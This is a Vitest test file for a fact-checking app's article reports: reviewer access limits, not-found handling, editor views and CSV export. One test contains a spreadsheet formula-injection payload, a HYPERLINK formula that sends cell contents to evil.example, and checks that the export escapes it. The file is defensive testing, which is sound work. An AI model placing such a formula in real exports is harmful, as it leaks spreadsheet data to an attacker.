import { describe, expect, it } from "vitest";
import { REPORT_COLUMNS, renderReportCsv } from "@/lib/domain/report";
import { approveVerdict, assignClaim, proposeVerdict } from "./claims";
import { getArticleReport } from "./reports";
import { claimState, makeArticle, makeAssignedClaim, makeEvidence, makeProposedClaim, makeUser } from "./testing/factories";

describe("getArticleReport", () => {
  it("gives a reviewer only their own claims of the article", async () => {
    const editor = await makeUser("EDITOR");
    const mine = await makeUser("REVIEWER");
    const theirs = await makeUser("REVIEWER");
    const { article, claim } = await makeAssignedClaim(editor, mine);
    const other = article.claims[1]!;
    await assignClaim(editor, { claimId: other.id, assigneeId: theirs.id, priority: "NORMAL", dueAt: undefined, expectedVersion: other.version });
    await makeEvidence(theirs, other.id, { url: "https://secret.example/their-source" });

    const report = await getArticleReport(mine, article.id);
    expect(report.article.id).toBe(article.id);
    expect(report.rows.map((r) => r.claimId)).toEqual([claim.id]);
    const csv = renderReportCsv(report.rows);
    expect(csv).not.toContain(other.id);
    expect(csv).not.toContain("secret.example");
    expect(csv).not.toContain(theirs.name);

    expect((await getArticleReport(theirs, article.id)).rows.map((r) => r.claimId)).toEqual([other.id]);
  });

  it("answers not-found to a reviewer without claims in the article, and for unknown articles", async () => {
    const editor = await makeUser("EDITOR");
    const reviewer = await makeUser("REVIEWER");
    await makeAssignedClaim(editor, reviewer);
    const elsewhere = await makeArticle(editor);
    await expect(getArticleReport(reviewer, elsewhere.id)).rejects.toMatchObject({ code: "NOT_FOUND" });
    await expect(getArticleReport(reviewer, "no-such-article")).rejects.toMatchObject({ code: "NOT_FOUND" });
    await expect(getArticleReport(editor, "no-such-article")).rejects.toMatchObject({ code: "NOT_FOUND" });
  });

  it("answers not-found once the reviewer's claim is reassigned away", async () => {
    const editor = await makeUser("EDITOR");
    const first = await makeUser("REVIEWER");
    const second = await makeUser("REVIEWER");
    const { article, claim } = await makeAssignedClaim(editor, first);
    const state = await claimState(claim.id);
    await assignClaim(editor, { claimId: claim.id, assigneeId: second.id, priority: "NORMAL", dueAt: undefined, expectedVersion: state.version });
    await expect(getArticleReport(first, article.id)).rejects.toMatchObject({ code: "NOT_FOUND" });
  });

  it("gives an editor every claim of the article in text order, with verdict, evidence and people", async () => {
    const editor = await makeUser("EDITOR", "Eve Editor");
    const approver = await makeUser("EDITOR", "Abe Approver");
    const reviewer = await makeUser("REVIEWER", "Rita Reviewer");
    const { article, claim } = await makeProposedClaim(editor, reviewer, "MOSTLY_FALSE", "Only 1,200 were delivered.");
    await approveVerdict(approver, { claimId: claim.id, expectedVersion: (await claimState(claim.id)).version });

    const report = await getArticleReport(editor, article.id);
    expect(report.rows.map((r) => r.claimId)).toEqual(article.claims.map((c) => c.id));
    const row = report.rows.find((r) => r.claimId === claim.id)!;
    expect(row).toMatchObject({
      status: "Approved",
      verdict: "Mostly false",
      verdictState: "Approved",
      ratingValue: 2,
      rationale: "Only 1,200 were delivered.",
      reviewer: "Rita Reviewer",
      approver: "Abe Approver",
    });
    expect(row.evidenceUrls).toHaveLength(1);
    expect(row.evidenceUrls[0]).toMatch(/^https:\/\/example\.org\/source\//);
    expect(row.approvedAt).not.toBe("");
    const untouched = report.rows.filter((r) => r.claimId !== claim.id);
    expect(untouched.length).toBeGreaterThan(0);
    for (const r of untouched) expect(r).toMatchObject({ status: "New", verdict: "", reviewer: "", evidenceUrls: [] });
  });

  it("renders a CSV in which a formula-looking rationale and evidence cannot run", async () => {
    const editor = await makeUser("EDITOR");
    const reviewer = await makeUser("REVIEWER", "@reviewer");
    const { article, claim } = await makeAssignedClaim(editor, reviewer);
    await makeEvidence(reviewer, claim.id, { url: "https://a.example/1" });
    await makeEvidence(reviewer, claim.id, { url: "https://b.example/2" });
    const rationale = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
    await proposeVerdict(reviewer, { claimId: claim.id, expectedVersion: (await claimState(claim.id)).version, rating: "FALSE", rationale });

    const csv = renderReportCsv((await getArticleReport(editor, article.id)).rows);
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe(REPORT_COLUMNS.map((c) => c.header).join(","));
    // The rationale is quoted (it holds quotes and a comma) and starts with an apostrophe.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // The reviewer name starting with @ is neutralised too.
    expect(csv).toContain(",'@reviewer,");
    // Two evidence URLs in one quoted cell.
    expect(csv).toContain('"https://a.example/1\nhttps://b.example/2"');
    expect(lines.filter((l) => l.startsWith(`${claim.id},`))).toHaveLength(1);
    expect(csv).toContain(",Verdict proposed,False,Proposed (awaiting approval),1,");
  });
});
